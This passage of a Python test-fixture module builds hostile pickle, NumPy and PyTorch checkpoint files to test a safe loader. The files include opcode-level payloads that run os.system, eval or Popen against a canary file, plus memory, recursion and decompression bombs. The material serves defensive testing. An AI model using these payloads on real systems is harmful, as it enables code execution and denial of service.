"""Hostile checkpoint files, each made by a few lines: `ATTACKS` maps a name to a maker.

A maker takes the path of a canary, which its payload tries to create, and returns the file.
The comment above each says what the attack is.
"""

import collections
import gzip
import io
import json
import os
import pickle
import struct
import zipfile
from collections.abc import Callable
from typing import Any

import numpy as np

Maker = Callable[[str], bytes]
ATTACKS: dict[str, Maker] = {}
RUNS_IN_PICKLE: list[str] = []
"""Attacks that Python's own pickle falls for; a test runs them there to prove them real."""
MUST_LOAD: list[str] = []
"""Odd but harmless files, which must load."""


def attack(*, runs: bool = False, loads: bool = False) -> Callable[[Maker], Maker]:
    def register(maker: Maker) -> Maker:
        ATTACKS[maker.__name__] = maker
        if runs:
            RUNS_IN_PICKLE.append(maker.__name__)
        if loads:
            MUST_LOAD.append(maker.__name__)
        return maker

    return register


class Calls:
    """Pickles as a call of `function(*arguments)`."""

    def __init__(self, function: Any, *arguments: Any, **rest: Any) -> None:
        self.reduced = (function, arguments, *rest.values())

    def __reduce__(self) -> Any:
        return self.reduced


def touch(canary: str) -> str:
    return f"touch {canary}"


def line(text: str) -> bytes:
    return f"S'{text}'\n".encode()


FLOAT32 = b"U\x02f4K\x00K\x01\x87R(K\x03U\x01<NNN" + b"J\xff\xff\xff\xff" * 2 + b"K\x00tb"


def array_pickle(
    shape: bytes = b"K\x04\x85",
    dtype: bytes = FLOAT32,
    data: bytes = b"U\x10" + bytes(16),
    first: bytes = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87R",
    fortran: bytes = b"\x89",
) -> bytes:
    """Return the opcodes of one array, any part of them replaced."""
    return first + b"(K\x01" + shape + b"cnumpy\ndtype\n" + dtype + fortran + data + b"tb"


def blobs(*items: bytes) -> bytes:
    """Return a whole pickle of {'blobs': {'a0': item, …}}."""
    pairs = b"".join(b"U%c" % (1 + len(str(i))) + b"a%d" % i + item for i, item in enumerate(items))
    return b"\x80\x02}U\x05blobs}(" + pairs + b"us."


def short_unicode(text: str) -> bytes:
    return b"\x8c" + bytes([len(text)]) + text.encode()


# --- Calls: every way to reach a callable -------------------------------------------------------


# The classic, in the words of every pickle exploit.
@attack(runs=True)
def reduce_protocol_0(canary: str) -> bytes:
    return b"cos\nsystem\n(" + line(touch(canary)) + b"tR."


# The same by the name that pickle itself writes.
@attack(runs=True)
def reduce_posix(canary: str) -> bytes:
    return pickle.dumps(Calls(os.system, touch(canary)), protocol=2)


# Protocol 4 takes the name from the stack.
@attack(runs=True)
def reduce_stack_global(canary: str) -> bytes:
    return pickle.dumps(Calls(os.system, touch(canary)), protocol=4)


# As a blob among real ones, after a real array.
@attack(runs=True)
def reduce_inside_blobs(canary: str) -> bytes:
    value = {"blobs": {"conv1_w": np.ones(3, np.float32), "x": Calls(os.system, touch(canary))}}
    return pickle.dumps(value, protocol=2)


# As a key of the dict.
@attack(runs=True)
def reduce_as_key(canary: str) -> bytes:
    return b"\x80\x02}cos\nsystem\n(" + line(touch(canary)) + b"tRK\x01s."


@attack(runs=True)
def builtins_eval(canary: str) -> bytes:
    code = f"open({canary!r}, 'w').close()"
    return pickle.dumps(Calls(eval, code), protocol=2)


@attack(runs=True)
def builtins_exec(canary: str) -> bytes:
    return pickle.dumps(Calls(exec, f"open({canary!r}, 'w').close()"), protocol=4)


# getattr(__import__('os'), 'system'): no dangerous name in it but getattr.
@attack(runs=True)
def getattr_chain(canary: str) -> bytes:
    return (
        b"cbuiltins\ngetattr\n(cbuiltins\n__import__\n(S'os'\ntRS'system'\ntR("
        + line(touch(canary))
        + b"tR."
    )


# Opening for writing truncates any file.
@attack(runs=True)
def builtins_open(canary: str) -> bytes:
    return b"cbuiltins\nopen\n(" + line(canary) + b"S'w'\ntR."


# INST: global and call in one opcode.
@attack(runs=True)
def inst_opcode(canary: str) -> bytes:
    return b"(" + line(touch(canary)) + b"ios\nsystem\n."


# OBJ: the callable comes from the stack.
@attack(runs=True)
def obj_opcode(canary: str) -> bytes:
    return b"(cos\nsystem\n" + line(touch(canary)) + b"o."


# NEWOBJ: cls.__new__(cls, *args), here an interpreter whose __init__ never runs: Popen by BUILD.
@attack()
def newobj_opcode(canary: str) -> bytes:
    return b"\x80\x02csubprocess\nPopen\n)\x81}U\x04argsU\x05touchsb."


@attack()
def newobj_ex_opcode(canary: str) -> bytes:
    return b"\x80\x04csubprocess\nPopen\n)}\x92."


# NEWOBJ of a harmless class: still a call.
@attack()
def newobj_of_dict(canary: str) -> bytes:
    return b"\x80\x02cbuiltins\ndict\n)\x81."


# BUILD calls __setstate__, here one that the same pickle has put into the object's dict.
@attack()
def build_setstate(canary: str) -> bytes:
    return b"\x80\x02}U\x0c__setstate__cos\nsystem\nsU\x02idb."


# BUILD on a type sets attributes of the type itself.
@attack()
def build_on_ndarray_type(canary: str) -> bytes:
    return b"\x80\x02cnumpy\nndarray\n}U\x05shapeK\x01sb."


@attack()
def build_on_list(canary: str) -> bytes:
    return b"\x80\x02](K\x01K\x02eK\x03b."


# APPEND calls `append` of whatever is on the stack.
@attack()
def append_to_global(canary: str) -> bytes:
    return b"\x80\x02ccollections\nOrderedDict\nK\x01a."


@attack()
def setitem_on_global(canary: str) -> bytes:
    return b"\x80\x02ccollections\nOrderedDict\nK\x01K\x02s."


# Calling something that is not a global.
@attack()
def reduce_of_string(canary: str) -> bytes:
    return b"\x80\x02U\x02id)R."


@attack()
def reduce_without_tuple(canary: str) -> bytes:
    return b"\x80\x02ccollections\nOrderedDict\nK\x01R."


# Partial: only named, to be called by whatever comes later.
@attack()
def global_never_called(canary: str) -> bytes:
    return b"\x80\x02}U\x05blobs}U\x01acos\nsystem\nsss."


@attack()
def functools_partial(canary: str) -> bytes:
    return b"\x80\x02cfunctools\npartial\n(cos\nsystem\n" + line(touch(canary)) + b"tR."


# --- Names: ways to hide a global ---------------------------------------------------------------


# A dotted name walks from a harmless module to anything that it imports.
@attack(runs=True)
def dotted_from_shutil(canary: str) -> bytes:
    names = short_unicode("shutil") + short_unicode("os.system")
    return b"\x80\x04" + names + b"\x93" + short_unicode(touch(canary)) + b"\x85R."


# A dotted name from an allowed class to the globals of its module.
@attack()
def dotted_from_ordered_dict(canary: str) -> bytes:
    return (
        b"\x80\x04"
        + short_unicode("collections")
        + short_unicode("OrderedDict.__init__.__globals__")
        + b"\x93."
    )


# NumPy's own code runner.
@attack(runs=True)
def numpy_runstring(canary: str) -> bytes:
    code = f"open({canary!r}, 'w').close()"
    return b"cnumpy.testing._private.utils\nrunstring\n(" + line(code.replace("'", '"')) + b"}tR."


# An allowed name in a module that only looks allowed.
@attack()
def lookalike_module(canary: str) -> bytes:
    return b"\x80\x02cnumpy.core.multiarray.x\n_reconstruct\n)R."


# The Kelvin sign and other letters that fold to ASCII.
@attack()
def unicode_lookalike(canary: str) -> bytes:
    return b"\x80\x02cnumpy.core.multiarray\n_reconstru\xc3\xa7t\n)R."


@attack()
def spaces_in_global(canary: str) -> bytes:
    return b"\x80\x02cos \nsystem\n)R."


# The parts of the name come out of the memo, stored long before.
@attack(runs=True)
def name_from_memo(canary: str) -> bytes:
    return (
        b"\x80\x04" + short_unicode("os") + b"\x94" + short_unicode("system") + b"\x94\x86\x94"
        b"h\x00h\x01\x93" + short_unicode(touch(canary)) + b"\x85R."
    )


# The memo first holds ndarray, is overwritten, and is then called under the old index.
@attack(runs=True)
def memo_overwritten(canary: str) -> bytes:
    return b"\x80\x02cnumpy\nndarray\nq\x01cos\nsystem\nq\x01h\x01(" + line(touch(canary)) + b"tR."


# A name that is not text.
@attack()
def stack_global_of_numbers(canary: str) -> bytes:
    return b"\x80\x04K\x01K\x02\x93."


# Extension registry, by the three lengths of its codes.
@attack()
def ext1(canary: str) -> bytes:
    return b"\x80\x02\x82\x01)R."


@attack()
def ext2(canary: str) -> bytes:
    return b"\x80\x02\x83\x01\x00)R."


@attack()
def ext4(canary: str) -> bytes:
    return b"\x80\x02\x84\x01\x00\x00\x00)R."


# Persistent ids are resolved by the program that reads.
@attack()
def persid(canary: str) -> bytes:
    return b"(Pos.system\nt."


@attack()
def binpersid_in_caffe2(canary: str) -> bytes:
    return b"\x80\x02U\x02idQ."


# A pickle that loads a pickle.
@attack(runs=True)
def nested_pickle(canary: str) -> bytes:
    return pickle.dumps(Calls(pickle.loads, reduce_posix(canary)), protocol=3)


# A pickle in the bytes of an array does nothing by itself: it must load as bytes.
@attack(loads=True)
def pickle_in_array_bytes(canary: str) -> bytes:
    inner = np.frombuffer(reduce_posix(canary), np.uint8)
    return pickle.dumps({"blobs": {"a": inner}}, protocol=2)


# torch.storage._load_from_bytes unpickles its argument without limits.
@attack()
def torch_load_from_bytes(canary: str) -> bytes:
    return b"\x80\x02ctorch.storage\n_load_from_bytes\nU\x01a\x85R."


# bytearray(10**12) is one call of a harmless-looking type.
@attack()
def bytearray_of_terabyte(canary: str) -> bytes:
    return b"\x80\x02c__builtin__\nbytearray\n\x8a\x06\x00\x10\xa5\xd4\xe8\x00\x85R."


@attack()
def bytes_of_terabyte(canary: str) -> bytes:
    return b"\x80\x02c__builtin__\nbytes\n\x8a\x06\x00\x10\xa5\xd4\xe8\x00\x85R."


@attack()
def defaultdict_factory(canary: str) -> bytes:
    return pickle.dumps(collections.defaultdict(os.getcwd), protocol=2)


# --- NumPy: its own constructors are memory-unsafe ----------------------------------------------


# ndarray(shape) allocates what it is told.
@attack()
def ndarray_called(canary: str) -> bytes:
    return b"\x80\x02cnumpy\nndarray\n\x8a\x06\x00\x10\xa5\xd4\xe8\x00\x85\x85R."


# ndarray over a buffer with an offset beyond it.
@attack()
def ndarray_with_buffer(canary: str) -> bytes:
    return b"\x80\x02cnumpy\nndarray\n(K\x01\x85U\x02f4U\x04abcdK\x63tR."


# _reconstruct of a subclass runs the subclass (memmap opens files).
@attack()
def reconstruct_memmap(canary: str) -> bytes:
    return blobs(
        array_pickle(
            first=b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nmemmap\nK\x00\x85U\x01b\x87R"
        )
    )


@attack()
def reconstruct_of_global(canary: str) -> bytes:
    return blobs(
        array_pickle(
            first=b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\ndtype\nK\x00\x85U\x01b\x87R"
        )
    )


# _reconstruct with a shape of its own allocates it.
@attack()
def reconstruct_huge_shape(canary: str) -> bytes:
    first = (
        b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\n"
        b"\x8a\x06\x00\x10\xa5\xd4\xe8\x00\x85U\x01b\x87R"
    )
    return blobs(array_pickle(first=first))


# A shape of 4 TB with 16 bytes of data.
@attack()
def shape_larger_than_data(canary: str) -> bytes:
    return blobs(array_pickle(shape=b"\x8a\x06\x00\x10\xa5\xd4\xe8\x00\x85"))


# A product that is 4 modulo 2**64.
@attack()
def shape_overflows(canary: str) -> bytes:
    huge = b"\x8a\x09" + (2**62 + 1).to_bytes(9, "little")
    return blobs(array_pickle(shape=huge + b"K\x04\x86"))


@attack()
def shape_negative(canary: str) -> bytes:
    return blobs(array_pickle(shape=b"J\xfc\xff\xff\xff\x85"))


# (-2) · (-2) = 4: the product is right, the shape is not.
@attack()
def shape_negative_pair(canary: str) -> bytes:
    return blobs(array_pickle(shape=b"J\xfe\xff\xff\xffJ\xfe\xff\xff\xff\x86"))


@attack()
def shape_of_bools(canary: str) -> bytes:
    return blobs(array_pickle(shape=b"\x88K\x04\x86"))


@attack()
def shape_of_floats(canary: str) -> bytes:
    return blobs(array_pickle(shape=b"G@\x10\x00\x00\x00\x00\x00\x00\x85"))


# 0 elements, but axes whose product overflows.
@attack()
def shape_empty_but_huge(canary: str) -> bytes:
    return blobs(
        array_pickle(
            shape=b"K\x00\x8a\x08" + (2**62).to_bytes(8, "little") + b"\x8a\x08"
            + (2**62).to_bytes(8, "little") + b"\x87",
            data=b"U\x00",
        )
    )  # fmt: skip


@attack()
def shape_of_many_axes(canary: str) -> bytes:
    return blobs(array_pickle(shape=b"(" + b"K\x01" * 100_000 + b"t"))


# An object array whose "pointers" come from the file.
@attack()
def object_array_of_bytes(canary: str) -> bytes:
    dtype = b"U\x02O8K\x00K\x01\x87R(K\x03U\x01|NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK?tb"
    return blobs(array_pickle(dtype=dtype, shape=b"K\x02\x85"))


@attack()
def object_array_of_objects(canary: str) -> bytes:
    return pickle.dumps({"blobs": {"a": np.array([1, "x", None], object)}}, protocol=2)


# An object array of one call, as a blob.
@attack(runs=True)
def object_array_of_call(canary: str) -> bytes:
    array = np.empty((), object)
    array[()] = Calls(os.system, touch(canary))
    return pickle.dumps({"blobs": {"a": array}}, protocol=2)


# A dtype state with fields at offsets outside of the element.
@attack()
def dtype_with_hostile_fields(canary: str) -> bytes:
    dtype = (
        b"U\x02V4K\x00K\x01\x87R(K\x03U\x01|N(U\x01xt}U\x01xcnumpy\ndtype\nU\x02f4\x85R"
        b"J\xff\xff\xff\x7f\x86sK\x04K\x01K\x00tb"
    )
    return blobs(array_pickle(dtype=dtype))


@attack()
def dtype_void_of_gigabyte(canary: str) -> bytes:
    return blobs(array_pickle(dtype=b"U\x0bV1000000000K\x00K\x01\x87R"))


@attack()
def dtype_structured(canary: str) -> bytes:
    return pickle.dumps({"blobs": {"a": np.zeros(2, "f4,i4")}}, protocol=2)


@attack()
def dtype_datetime(canary: str) -> bytes:
    return pickle.dumps({"blobs": {"a": np.zeros(2, "M8[s]")}}, protocol=2)


@attack()
def dtype_strings(canary: str) -> bytes:
    return pickle.dumps({"blobs": {"a": np.array(["a", "b"])}}, protocol=2)


@attack()
def dtype_from_list(canary: str) -> bytes:
    return blobs(array_pickle(dtype=b"]\x85R"))


@attack()
def dtype_strange_order(canary: str) -> bytes:
    return blobs(array_pickle(dtype=b"U\x02f4K\x00K\x01\x87R(K\x03U\x01?NNNtb"))


@attack()
def array_data_is_a_number(canary: str) -> bytes:
    return blobs(array_pickle(data=b"K\x10"))


@attack()
def array_data_is_wide_text(canary: str) -> bytes:
    return blobs(array_pickle(data=b"X\x10\x00\x00\x00" + "\u20ac".encode() * 5 + b"a"))


# BUILD a second time swaps the memory under the first array.
@attack()
def array_built_twice(canary: str) -> bytes:
    return blobs(array_pickle() + b"(K\x01K\x01\x85cnumpy\ndtype\nU\x02f4\x85R\x89U\x04abcdtb")


# The same hidden in the state of the first BUILD.
@attack()
def array_built_within_its_own_state(canary: str) -> bytes:
    first = b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87Rq\x00"
    rest = b")cnumpy\ndtype\nU\x02f4\x85R\x89U\x04abcdtb"
    return blobs(first + b"(h\x00(K\x01" + rest + rest)


@attack()
def array_never_built(canary: str) -> bytes:
    return blobs(b"cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87R")


@attack()
def array_of_extra_state(canary: str) -> bytes:
    return blobs(array_pickle(data=b"U\x10" + bytes(16) + b"K\x01"))


# scalar(dtype('O'), bytes) made a Python object of an address, until NumPy forbade it.
@attack()
def scalar_of_object(canary: str) -> bytes:
    return b"\x80\x02cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\nU\x02O8\x85RU\x08AAAAAAAA\x86R."


@attack()
def scalar_too_short(canary: str) -> bytes:
    return b"\x80\x02cnumpy.core.multiarray\nscalar\ncnumpy\ndtype\nU\x02f8\x85RU\x01A\x86R."


# _codecs.encode with a codec that does more than encode.
@attack()
def codecs_rot13(canary: str) -> bytes:
    return b"\x80\x02c_codecs\nencode\nX\x01\x00\x00\x00aU\x05rot13\x86R."


# A decompression bomb through a codec.
@attack()
def codecs_decode_zlib(canary: str) -> bytes:
    return b"\x80\x02c_codecs\ndecode\nU\x01aU\x04zlib\x86R."


@attack()
def codecs_encode_bytes(canary: str) -> bytes:
    return b"\x80\x03c_codecs\nencode\nC\x01aU\x06latin1\x86R."


@attack()
def frombuffer_too_short(canary: str) -> bytes:
    return (
        b"\x80\x05cnumpy.core.numeric\n_frombuffer\n(C\x04abcd"
        b"cnumpy\ndtype\nU\x02f4\x85RK\x7f\x85U\x01CtR."
    )


# --- Memory: small files that ask for much ------------------------------------------------------


# The memo of some unpicklers is a list as long as its largest index.
@attack()
def sparse_memo(canary: str) -> bytes:
    return b"\x80\x02K\x01r\xff\xff\xff\xff."


@attack()
def sparse_memo_in_text(canary: str) -> bytes:
    return b"(I1\np4000000000\nt."


@attack()
def length_binbytes8(canary: str) -> bytes:
    return b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"abc."


@attack()
def length_binunicode8(canary: str) -> bytes:
    return b"\x80\x04\x8d" + struct.pack("<Q", 2**64 - 1) + b"abc."


@attack()
def length_binstring_negative(canary: str) -> bytes:
    return b"\x80\x02T\xff\xff\xff\xff."


@attack()
def length_binunicode(canary: str) -> bytes:
    return b"\x80\x02X\xff\xff\xff\xff."


@attack()
def length_bytearray8(canary: str) -> bytes:
    return b"\x80\x05\x96" + struct.pack("<Q", 2**40) + b"."


@attack()
def length_frame(canary: str) -> bytes:
    return b"\x80\x04\x95" + struct.pack("<Q", 2**63) + b"N."


@attack()
def length_long4(canary: str) -> bytes:
    return b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"."


# Turning digits into a number takes the square of their count.
@attack()
def number_of_a_million_digits(canary: str) -> bytes:
    return b"(I" + b"9" * 1_000_000 + b"\nt."


@attack()
def long_of_a_million_digits(canary: str) -> bytes:
    return b"(L" + b"9" * 1_000_000 + b"L\nt."


# Out-of-band buffers, which nobody gave.
@attack()
def next_buffer(canary: str) -> bytes:
    return b"\x80\x05\x97."


@attack()
def marks_deep(canary: str) -> bytes:
    return b"\x80\x02" + b"(" * 100_000 + b"."


# Lists in lists, past any recursion limit; freeing them must not overflow the stack either.
@attack()
def lists_deep(canary: str) -> bytes:
    return b"\x80\x02" + b"]" * 200_000 + b"a" * 199_999 + b"."


@attack()
def tuples_deep(canary: str) -> bytes:
    return b"\x80\x02N" + b"\x85" * 300_000 + b"."


@attack()
def dicts_deep(canary: str) -> bytes:
    return b"\x80\x02" + b"}U\x05blobs" * 50_000 + b"}" + b"s" * 50_000 + b"."


# t = (t, t), sixty times: 2**60 leaves for whoever prints, compares or hashes it.
@attack()
def tuples_doubling(canary: str) -> bytes:
    return b"\x80\x02N\x85" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(60)) + b"."


# The same as the key of a dict: hashing never ends.
@attack()
def tuples_doubling_as_key(canary: str) -> bytes:
    return b"\x80\x02}N\x85" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(60)) + b"K\x01s."


# The same beside the blobs, where settings are copied.
@attack(loads=True)
def tuples_doubling_beside_blobs(canary: str) -> bytes:
    bomb = b"N\x85" + b"".join(b"q%ch%c\x86" % (i, i) for i in range(60))
    return b"\x80\x02}(U\x05blobs}U\x01a" + array_pickle() + b"sU\x03cfg" + bomb + b"u."


@attack()
def list_contains_itself(canary: str) -> bytes:
    return b"\x80\x02]q\x00h\x00a."


@attack()
def dict_contains_itself(canary: str) -> bytes:
    return b"\x80\x02}q\x00U\x05blobsh\x00s."


# As much memory per opcode as there can be.
@attack()
def many_dicts(canary: str) -> bytes:
    return b"\x80\x02(" + b"}" * 499_990 + b"l."


@attack()
def many_filled_dicts(canary: str) -> bytes:
    return b"\x80\x02](" + b"}K\x01Ns" * 124_000 + b"e."


@attack()
def many_memo_entries(canary: str) -> bytes:
    return b"\x80\x04](" + b"]\x94" * 249_000 + b"e."


@attack()
def many_opcodes(canary: str) -> bytes:
    return b"\x80\x02(" + b"N" * 600_000 + b"l."


# Strings with one wide character take four bytes for each of their own.
@attack()
def many_wide_strings(canary: str) -> bytes:
    text = ("a" * 120 + "\U0001f600").encode()
    one = b"\x8c" + bytes([len(text)]) + text
    return b"\x80\x04](" + one * 490_000 + b"e."


@attack()
def many_arrays(canary: str) -> bytes:
    first = b"h\x00h\x01K\x00\x85U\x01b\x87R"
    one = first + b"(K\x01)h\x02\x89U\x04abcdtb"
    head = (
        b"\x80\x02cnumpy.core.multiarray\n_reconstruct\nq\x00cnumpy\nndarray\nq\x01"
        b"cnumpy\ndtype\nU\x02f4\x85Rq\x02\x87"
    )
    return head + b"](" + one * 29_000 + b"e\x86."


# A megabyte under ten thousand names is ten gigabytes for whoever writes it out again.
@attack()
def one_array_many_names(canary: str) -> bytes:
    array = array_pickle(
        shape=b"J" + struct.pack("<i", 1 << 18) + b"\x85",
        data=b"T" + struct.pack("<i", 1 << 20) + bytes(1 << 20),
    )
    pairs = b"".join(b"U\x06x%05dh\x00" % i for i in range(10_000))
    return b"\x80\x02}U\x05blobs}(U\x01a" + array + b"q\x00" + pairs + b"us."


# One long text that every array decodes anew.
@attack()
def one_text_many_arrays(canary: str) -> bytes:
    text = "é".encode() * (1 << 20)
    head = b"\x80\x02X" + struct.pack("<I", len(text)) + text + b"q\x00"
    encoded = b"c_codecs\nencode\nh\x00U\x06latin1\x86R"
    shape = b"J" + struct.pack("<i", 1 << 18) + b"\x85"
    pairs = b"".join(
        b"U\x04x%03d" % i + array_pickle(shape=shape, data=encoded) for i in range(1000)
    )
    return head + b"}U\x05blobs}(" + pairs + b"us\x86."


# An unbuilt array under many memo indices, built again and again.
@attack()
def unbuilt_array_in_many_places(canary: str) -> bytes:
    head = b"\x80\x04(cnumpy.core.multiarray\n_reconstruct\ncnumpy\nndarray\nK\x00\x85U\x01b\x87R"
    state = b"(K\x01)cnumpy\ndtype\nU\x02f4\x85R\x89U\x04abcdtb"
    return head + b"\x94" * 100_000 + b"h\x00" * 100_000 + state * 2 + b"l."


# --- Keys and structure -------------------------------------------------------------------------


@attack()
def key_is_nan(canary: str) -> bytes:
    return b"\x80\x02}G\x7f\xf8\x00\x00\x00\x00\x00\x00K\x01s."


# Integers that all hash to 0 make a dict quadratic.
@attack()
def keys_with_one_hash(canary: str) -> bytes:
    modulus = 2**61 - 1
    keys = b"".join(
        b"\x8a\x0a" + (i * modulus).to_bytes(10, "little") + b"N" for i in range(50_000)
    )
    return b"\x80\x02}(" + keys + b"u."


@attack()
def key_twice(canary: str) -> bytes:
    return b"\x80\x02}U\x05blobs}(U\x01a" + array_pickle() + b"U\x01a" + array_pickle() + b"us."


@attack()
def key_of_a_megabyte(canary: str) -> bytes:
    return b"\x80\x02}X" + struct.pack("<I", 1 << 20) + b"a" * (1 << 20) + b"Ns."


# A name that would draw over the terminal: it may load, and must be shown harmlessly.
@attack(loads=True)
def name_with_escape_codes(canary: str) -> bytes:
    return b"\x80\x02}U\x05blobs}U\x08\x1b[2J\x07\r\nx" + array_pickle() + b"ss."


@attack()
def stack_underflow(canary: str) -> bytes:
    return b"\x80\x02\x87."


@attack()
def takes_below_mark(canary: str) -> bytes:
    return b"\x80\x02](a."


# Sets an item of the dict below an open mark, which a forgiving machine would allow.
@attack()
def setitem_below_mark(canary: str) -> bytes:
    return b"\x80\x02}U\x05blobs}(U\x01a" + array_pickle() + b"sus."


@attack()
def mark_never_opened(canary: str) -> bytes:
    return b"\x80\x02Nt."


@attack()
def odd_items(canary: str) -> bytes:
    return b"\x80\x02}(K\x01u."


@attack()
def memo_never_stored(canary: str) -> bytes:
    return b"\x80\x02h\x05."


@attack()
def values_left_over(canary: str) -> bytes:
    return b"\x80\x02NN."


@attack()
def no_stop(canary: str) -> bytes:
    return b"\x80\x02}"


@attack()
def empty_file(canary: str) -> bytes:
    return b""


@attack()
def protocol_of_the_future(canary: str) -> bytes:
    return b"\x80\x09N."


# What `pickle.load` leaves unread: a second pickle.
@attack()
def second_pickle_behind(canary: str) -> bytes:
    return blobs(array_pickle()) + b"cos\nsystem\n(S'id'\ntR."


@attack()
def sets(canary: str) -> bytes:
    return pickle.dumps({1, 2}, protocol=4)


@attack()
def text_file(canary: str) -> bytes:
    return b"version https://git-lfs.github.com/spec/v1\noid sha256:0000\nsize 1\n"


@attack()
def web_page(canary: str) -> bytes:
    return b"<!DOCTYPE html><html><body>404</body></html>"


@attack()
def gzip_bomb(canary: str) -> bytes:
    return gzip.compress(bytes(50_000_000))


# --- .npy ---------------------------------------------------------------------------------------


def npy(descr: str, shape: str, data: bytes) -> bytes:
    header = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}}}\n".encode()
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + data


@attack(runs=True)
def npy_object(canary: str) -> bytes:
    array = np.empty((), object)
    array[()] = Calls(os.system, touch(canary))
    file = io.BytesIO()
    np.save(file, array, allow_pickle=True)
    return file.getvalue()


@attack()
def npy_object_list(canary: str) -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([Calls(os.system, touch(canary))] * 3), allow_pickle=True)
    return file.getvalue()


# The header is Python text; `eval` would run it.
@attack()
def npy_header_code(canary: str) -> bytes:
    return npy(f"__import__('os').system('{touch(canary)}')", "()", b"")


@attack()
def npy_header_deep(canary: str) -> bytes:
    return npy("'<f4'", "(" * 3000 + ")" * 3000, b"")


@attack()
def npy_header_huge_shape(canary: str) -> bytes:
    return npy("'<f4'", "(1000000000000,)", b"abcd")


@attack()
def npy_header_void(canary: str) -> bytes:
    return npy("'|V2000000000'", "()", b"")


@attack()
def npy_header_length(canary: str) -> bytes:
    return b"\x93NUMPY\x02\x00\xff\xff\xff\xff{"


@attack()
def npy_structured_objects(canary: str) -> bytes:
    return npy("[('a', '|O')]", "()", reduce_posix(canary))


# --- PyTorch ------------------------------------------------------------------------------------

TENSOR = b"ctorch._utils\n_rebuild_tensor_v2\n"
STORAGE = b"(U\x07storagectorch\nFloatStorage\nU\x010U\x03cpuK\x04tQ"


def tensor(
    storage: bytes = STORAGE,
    offset: bytes = b"K\x00",
    shape: bytes = b"K\x04\x85",
    strides: bytes = b"K\x01\x85",
) -> bytes:
    return (
        TENSOR + b"(" + storage + offset + shape + strides + b"\x89ccollections\nOrderedDict\n)RtR"
    )


def torch_zip(data: bytes, *, compress: bool = False, **records: bytes) -> bytes:
    file = io.BytesIO()
    method = zipfile.ZIP_DEFLATED if compress else zipfile.ZIP_STORED
    with zipfile.ZipFile(file, "w", method) as archive:
        archive.writestr("archive/data.pkl", data)
        for name, record in ({"data/0": bytes(16)} | records).items():
            archive.writestr(f"archive/{name}", record)
    return file.getvalue()


def state_dict(item: bytes) -> bytes:
    return b"\x80\x02}U\x01a" + item + b"s."


@attack(loads=True)
def torch_plain(canary: str) -> bytes:
    return torch_zip(state_dict(tensor()))


@attack()
def torch_reduce(canary: str) -> bytes:
    return torch_zip(reduce_protocol_0(canary))


# 1 MB of zeros in a kilobyte of archive.
@attack()
def torch_compressed(canary: str) -> bytes:
    return torch_zip(state_dict(tensor()) + bytes(50_000_000), compress=True)


@attack()
def torch_storage_missing(canary: str) -> bytes:
    return torch_zip(state_dict(tensor(storage=STORAGE.replace(b"U\x010", b"U\x019"))))


@attack()
def torch_storage_too_long(canary: str) -> bytes:
    return torch_zip(state_dict(tensor(storage=STORAGE.replace(b"K\x04tQ", b"K\x7ftQ"))))


@attack()
def torch_tensor_beyond_storage(canary: str) -> bytes:
    return torch_zip(state_dict(tensor(offset=b"K\x01")))


# Stride 0: four bytes seen as a tensor of four terabytes.
@attack()
def torch_expanded_tensor(canary: str) -> bytes:
    shape = b"\x8a\x06\x00\x10\xa5\xd4\xe8\x00\x85"
    return torch_zip(state_dict(tensor(shape=shape, strides=b"K\x00\x85")))


@attack()
def torch_negative_stride(canary: str) -> bytes:
    return torch_zip(state_dict(tensor(offset=b"K\x03", strides=b"J\xff\xff\xff\xff\x85")))


@attack()
def torch_negative_offset(canary: str) -> bytes:
    return torch_zip(state_dict(tensor(offset=b"J\xff\xff\xff\xff")))


@attack()
def torch_persistent_module(canary: str) -> bytes:
    return torch_zip(b"\x80\x02(U\x06modulecos\nsystem\nU\x01aU\x01btQ.")


@attack()
def torch_persistent_number(canary: str) -> bytes:
    return torch_zip(b"\x80\x02K\x01Q.")


# A whole module, whose class is in the file: its code would have to be imported.
@attack()
def torch_whole_module(canary: str) -> bytes:
    return torch_zip(b"\x80\x02ctorch.nn.modules.linear\nLinear\n)\x81}b.")


@attack()
def torch_two_pickles(canary: str) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w") as archive:
        archive.writestr("a/data.pkl", state_dict(tensor()))
        archive.writestr("b/data.pkl", reduce_posix(canary))
    return file.getvalue()


# TorchScript carries code.
@attack()
def torch_script(canary: str) -> bytes:
    data = b"\x80\x02c__torch__.Model\nModel\n)\x81}b."
    return torch_zip(data, **{"code/__torch__.py": b"def forward(self): pass"})


@attack()
def torch_big_endian(canary: str) -> bytes:
    return torch_zip(state_dict(tensor()), byteorder=b"big")


# A directory of many entries is a thousand times as large in memory as in the file.
@attack()
def zip_of_many_entries(canary: str) -> bytes:
    entry = b"PK\x01\x02" + bytes(42)
    count = 60_000
    directory = entry * count
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, count, count, len(directory), 4, 0)
    return b"PK\x03\x04" + directory + end


@attack()
def zip_directory_beyond_file(canary: str) -> bytes:
    return b"PK\x03\x04" + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, 2**31, 2**31, 0)


@attack()
def zip_without_directory(canary: str) -> bytes:
    return torch_zip(state_dict(tensor()))[:-40]


@attack()
def zip_of_arrays(canary: str) -> bytes:
    file = io.BytesIO()
    np.savez(file, a=np.array([Calls(os.system, touch(canary))]))
    return file.getvalue()


MAGIC = b"\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19."
VERSION = b"\x80\x02M\xe9\x03."
SYSTEM = b"\x80\x02}(U\x10protocol_versionM\xe9\x03U\rlittle_endian\x88u."


def torch_legacy(
    data: bytes,
    *,
    system: bytes = SYSTEM,
